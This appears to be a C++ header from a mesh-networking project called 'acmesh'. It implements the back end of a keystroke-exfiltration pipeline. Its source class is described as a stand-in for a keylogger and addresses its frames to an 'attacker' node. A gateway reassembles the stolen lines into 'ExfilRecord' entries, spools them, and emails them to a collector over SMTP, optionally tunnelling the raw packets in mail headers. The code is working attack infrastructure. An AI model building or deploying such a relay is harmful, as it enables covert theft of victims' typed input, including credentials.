#pragma once

// Demo applications: a line-buffered text source (stand-in for a keylogger
// feeding the mesh) and a gateway sink that turns delivered lines into email.

#include <acmesh/errors.hpp>
#include <acmesh/guwal.hpp>
#include <acmesh/guwmanet.hpp>

#include <netdb.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#include <algorithm>
#include <charconv>
#include <cstdint>
#include <cstdio>
#include <ctime>
#include <filesystem>
#include <fstream>
#include <iomanip>
#include <map>
#include <optional>
#include <sstream>
#include <string>
#include <string_view>
#include <vector>

namespace acmesh::apps {

// Replaces each maximal ill-formed subsequence with U+FFFD.
inline std::string sanitize_utf8(std::string_view in) {
  static constexpr std::string_view kReplacement = "\xEF\xBF\xBD";
  std::string out;
  out.reserve(in.size());
  std::size_t i = 0;
  const auto byte = [&](std::size_t k) { return static_cast<unsigned char>(in[k]); };
  while (i < in.size()) {
    const unsigned char c = byte(i);
    if (c < 0x80) {
      out.push_back(static_cast<char>(c));
      ++i;
      continue;
    }
    std::size_t need = 0;
    unsigned char lo = 0x80, hi = 0xBF;
    if (c >= 0xC2 && c <= 0xDF) need = 1;
    else if (c >= 0xE0 && c <= 0xEF) {
      need = 2;
      if (c == 0xE0) lo = 0xA0;
      if (c == 0xED) hi = 0x9F;
    } else if (c >= 0xF0 && c <= 0xF4) {
      need = 3;
      if (c == 0xF0) lo = 0x90;
      if (c == 0xF4) hi = 0x8F;
    } else {
      out += kReplacement;
      ++i;
      continue;
    }
    std::size_t k = 1;
    for (; k <= need && i + k < in.size(); ++k) {
      const unsigned char b = byte(i + k);
      const unsigned char l = k == 1 ? lo : 0x80, h = k == 1 ? hi : 0xBF;
      if (b < l || b > h) break;
    }
    if (k == need + 1) {
      out.append(in.substr(i, need + 1));
    } else {
      out += kReplacement;
    }
    i += k;
  }
  return out;
}

// Buffers bytes until a line feed, then emits the line as GUWAL frames.
// Carriage returns before the line feed are dropped; empty lines emit
// nothing. Each line gets a nonce in its final frame's padding so that a
// repeated line is not mistaken for a duplicate by the mesh.
class LineSource {
 public:
  LineSource(std::uint8_t src, std::uint8_t attacker, bool ack_requested = true) {
    header_.type = guwal::FrameType::data;
    header_.ack_requested = ack_requested;
    header_.src = src;
    header_.dst = attacker;
    guwal::pack_header(header_);  // validates addresses
  }

  std::vector<guwal::Frame> feed(std::string_view bytes) {
    std::vector<guwal::Frame> out;
    for (char c : bytes) {
      if (c != '\n') {
        buffer_.push_back(c);
        continue;
      }
      while (!buffer_.empty() && buffer_.back() == '\r') buffer_.pop_back();
      if (!buffer_.empty()) {
        const auto line = sanitize_utf8(buffer_);
        nonce_ = static_cast<std::uint8_t>(nonce_ % 255 + 1);
        for (auto& f : guwal::chunk_message(line, header_, nonce_)) out.push_back(f);
      }
      buffer_.clear();
    }
    return out;
  }

  const std::string& pending() const noexcept { return buffer_; }

 private:
  guwal::Header header_;
  std::string buffer_;
  std::uint8_t nonce_ = 0;
};

// ---------------------------------------------------------------------------

struct ExfilRecord {
  std::uint8_t src_guwal = 0;
  double received_at = 0.0;
  std::string text;
  std::vector<std::vector<std::uint8_t>> packets;  // 18-byte header+frame per fragment
};

// Joins fragments per source. A fragment whose text is shorter than a full
// payload ends the line; a line that fills its last frame exactly is closed
// by flush_idle().
class Reassembler {
 public:
  std::optional<ExfilRecord> add(const guwmanet::NetPacket& pkt, double now) {
    auto& r = open_[pkt.frame.header.src];
    r.src_guwal = pkt.frame.header.src;
    r.received_at = now;
    const auto text = guwal::payload_text(pkt.frame);
    r.text += text;
    r.packets.push_back(guwmanet::packet_bytes(pkt));
    if (text.size() < guwal::kPayloadBytes) {
      ExfilRecord done = std::move(r);
      open_.erase(pkt.frame.header.src);
      return done;
    }
    return std::nullopt;
  }

  std::vector<ExfilRecord> flush_idle(double now, double idle) {
    std::vector<ExfilRecord> out;
    for (auto it = open_.begin(); it != open_.end();) {
      if (now - it->second.received_at >= idle) {
        out.push_back(std::move(it->second));
        it = open_.erase(it);
      } else {
        ++it;
      }
    }
    return out;
  }

 private:
  std::map<std::uint8_t, ExfilRecord> open_;
};

// ---------------------------------------------------------------------------

struct SmtpEndpoint {
  std::string host;
  std::uint16_t port = 25;
  double timeout_s = 5.0;
};

struct SinkConfig {
  std::string spool_dir = "spool";
  std::string recipient = "collector@example.org";
  std::string sender = "gateway@acmesh.local";
  bool tunnel = false;
  std::optional<SmtpEndpoint> smtp;
  double dedup_window_s = 300.0;
  double idle_flush_s = 120.0;
};

inline std::string hex_bytes(const std::vector<std::uint8_t>& b) {
  std::ostringstream os;
  os << std::hex << std::setfill('0');
  for (auto v : b) os << std::setw(2) << unsigned(v);
  return os.str();
}

// RFC-822 message for one line. Dates are derived from `received_at`
// seconds after the Unix epoch, so simulated runs produce identical files.
inline std::string format_email(const ExfilRecord& r, const SinkConfig& cfg, std::uint64_t seq) {
  const auto secs = static_cast<std::time_t>(r.received_at);
  std::tm tm{};
  gmtime_r(&secs, &tm);
  char date[64];
  std::strftime(date, sizeof date, "%a, %d %b %Y %H:%M:%S +0000", &tm);
  std::ostringstream os;
  os << "From: " << cfg.sender << "\r\n"
     << "To: " << cfg.recipient << "\r\n"
     << "Subject: line from guwal " << unsigned(r.src_guwal) << "\r\n"
     << "Date: " << date << "\r\n"
     << "Message-ID: <" << seq << "." << unsigned(r.src_guwal) << "@acmesh.local>\r\n"
     << "X-Acmesh-Src-Guwal: " << unsigned(r.src_guwal) << "\r\n"
     << "X-Acmesh-Received-At: " << std::fixed << std::setprecision(3) << r.received_at << "\r\n"
     << "Content-Type: text/plain; charset=utf-8\r\n"
     << "\r\n"
     << r.text << "\r\n";
  if (cfg.tunnel) {
    for (const auto& p : r.packets) os << "X-Acmesh-Packet: " << hex_bytes(p) << "\r\n";
  }
  return os.str();
}

namespace detail {

class Socket {
 public:
  Socket(const SmtpEndpoint& ep) {
    addrinfo hints{};
    hints.ai_family = AF_UNSPEC;
    hints.ai_socktype = SOCK_STREAM;
    addrinfo* res = nullptr;
    const auto port = std::to_string(ep.port);
    if (getaddrinfo(ep.host.c_str(), port.c_str(), &hints, &res) != 0 || !res) {
      throw Error("cannot resolve SMTP host '" + ep.host + "'");
    }
    timeval tv{};
    tv.tv_sec = static_cast<time_t>(ep.timeout_s);
    tv.tv_usec = static_cast<suseconds_t>((ep.timeout_s - static_cast<double>(tv.tv_sec)) * 1e6);
    for (auto* p = res; p; p = p->ai_next) {
      fd_ = ::socket(p->ai_family, p->ai_socktype, p->ai_protocol);
      if (fd_ < 0) continue;
      setsockopt(fd_, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
      setsockopt(fd_, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
      if (::connect(fd_, p->ai_addr, p->ai_addrlen) == 0) break;
      ::close(fd_);
      fd_ = -1;
    }
    freeaddrinfo(res);
    if (fd_ < 0) throw Error("cannot connect to SMTP server " + ep.host + ":" + port);
  }
  ~Socket() {
    if (fd_ >= 0) ::close(fd_);
  }
  Socket(const Socket&) = delete;
  Socket& operator=(const Socket&) = delete;

  void send_all(std::string_view s) {
    while (!s.empty()) {
      const auto n = ::send(fd_, s.data(), s.size(), MSG_NOSIGNAL);
      if (n <= 0) throw Error("SMTP send failed");
      s.remove_prefix(static_cast<std::size_t>(n));
    }
  }

  // Reads one (possibly multi-line) reply and returns its code.
  int reply() {
    for (;;) {
      const auto line = read_line();
      if (line.size() < 3) throw Error("malformed SMTP reply");
      if (line.size() == 3 || line[3] != '-') return std::stoi(line.substr(0, 3));
    }
  }

 private:
  std::string read_line() {
    for (;;) {
      if (auto pos = buf_.find("\r\n"); pos != std::string::npos) {
        auto line = buf_.substr(0, pos);
        buf_.erase(0, pos + 2);
        return line;
      }
      char tmp[512];
      const auto n = ::recv(fd_, tmp, sizeof tmp, 0);
      if (n <= 0) throw Error("SMTP connection closed");
      buf_.append(tmp, static_cast<std::size_t>(n));
    }
  }

  int fd_ = -1;
  std::string buf_;
};

}  // namespace detail

// Submits one RFC-822 message over plain SMTP. Throws on any failure.
inline void smtp_submit(const SmtpEndpoint& ep, const std::string& from, const std::string& to,
                        const std::string& message) {
  detail::Socket s(ep);
  auto expect = [&](int code, const char* what) {
    const int got = s.reply();
    if (got != code) throw Error(std::string("SMTP ") + what + " rejected with " + std::to_string(got));
  };
  expect(220, "greeting");
  s.send_all("HELO acmesh.local\r\n");
  expect(250, "HELO");
  s.send_all("MAIL FROM:<" + from + ">\r\n");
  expect(250, "MAIL FROM");
  s.send_all("RCPT TO:<" + to + ">\r\n");
  const int rcpt = s.reply();
  if (rcpt != 250 && rcpt != 251) throw Error("SMTP RCPT TO rejected with " + std::to_string(rcpt));
  s.send_all("DATA\r\n");
  expect(354, "DATA");
  std::string body;
  std::istringstream in(message);
  for (std::string line; std::getline(in, line);) {
    if (!line.empty() && line.back() == '\r') line.pop_back();
    if (!line.empty() && line.front() == '.') body += '.';
    body += line + "\r\n";
  }
  s.send_all(body + ".\r\n");
  expect(250, "message");
  s.send_all("QUIT\r\n");
  s.reply();
}

// Spool-first gateway: every completed line is written to the spool
// directory, and flush() hands spooled messages to the SMTP server, removing
// each one only after the server accepted it.
class SmtpSink {
 public:
  explicit SmtpSink(SinkConfig cfg) : cfg_(std::move(cfg)) {
    std::filesystem::create_directories(cfg_.spool_dir);
    // continue numbering after messages left over from an earlier run
    for (const auto& e : std::filesystem::directory_iterator(cfg_.spool_dir)) {
      const auto name = e.path().filename().string();
      if (e.path().extension() != ".eml" || name.size() < 6) continue;
      std::uint64_t n = 0;
      if (std::from_chars(name.data(), name.data() + 6, n).ec == std::errc{}) seq_ = std::max(seq_, n);
    }
  }

  // Returns the spooled file path when the packet completed a line.
  std::optional<std::string> accept(const guwmanet::NetPacket& pkt, double now) {
    const auto key = std::make_pair(pkt.frame.header.src, pkt.frame.crc);
    if (auto it = recent_.find(key); it != recent_.end() && now - it->second < cfg_.dedup_window_s) {
      return std::nullopt;
    }
    recent_[key] = now;
    auto rec = reasm_.add(pkt, now);
    if (!rec) return std::nullopt;
    return spool(*rec);
  }

  std::vector<std::string> flush_idle(double now) { return spool_all(reasm_.flush_idle(now, cfg_.idle_flush_s)); }

  // Spools every partially assembled line.
  std::vector<std::string> close() { return spool_all(reasm_.flush_idle(1e300, 0.0)); }

  // Tries to submit everything in the spool; returns the number sent.
  std::size_t flush() {
    if (!cfg_.smtp) return 0;
    std::vector<std::filesystem::path> files;
    for (const auto& e : std::filesystem::directory_iterator(cfg_.spool_dir)) {
      if (e.path().extension() == ".eml") files.push_back(e.path());
    }
    std::sort(files.begin(), files.end());
    std::size_t sent = 0;
    for (const auto& f : files) {
      std::ifstream in(f, std::ios::binary);
      const std::string msg((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
      try {
        smtp_submit(*cfg_.smtp, cfg_.sender, cfg_.recipient, msg);
      } catch (const Error&) {
        break;  // server unreachable: keep the rest for the next attempt
      }
      std::filesystem::remove(f);
      ++sent;
    }
    return sent;
  }

  const std::vector<ExfilRecord>& records() const noexcept { return records_; }
  const SinkConfig& config() const noexcept { return cfg_; }

 private:
  std::vector<std::string> spool_all(const std::vector<ExfilRecord>& recs) {
    std::vector<std::string> out;
    for (const auto& r : recs) out.push_back(spool(r));
    return out;
  }

  std::string spool(const ExfilRecord& r) {
    records_.push_back(r);
    ++seq_;
    std::ostringstream name;
    name << std::setw(6) << std::setfill('0') << seq_ << "-guwal" << unsigned(r.src_guwal) << ".eml";
    const auto path = (std::filesystem::path(cfg_.spool_dir) / name.str()).string();
    std::ofstream out(path, std::ios::binary);
    if (!out) throw Error("cannot write spool file '" + path + "'");
    out << format_email(r, cfg_, seq_);
    return path;
  }

  SinkConfig cfg_;
  Reassembler reasm_;
  std::map<std::pair<std::uint8_t, std::uint16_t>, double> recent_;
  std::vector<ExfilRecord> records_;
  std::uint64_t seq_ = 0;
};

}  // namespace acmesh::apps
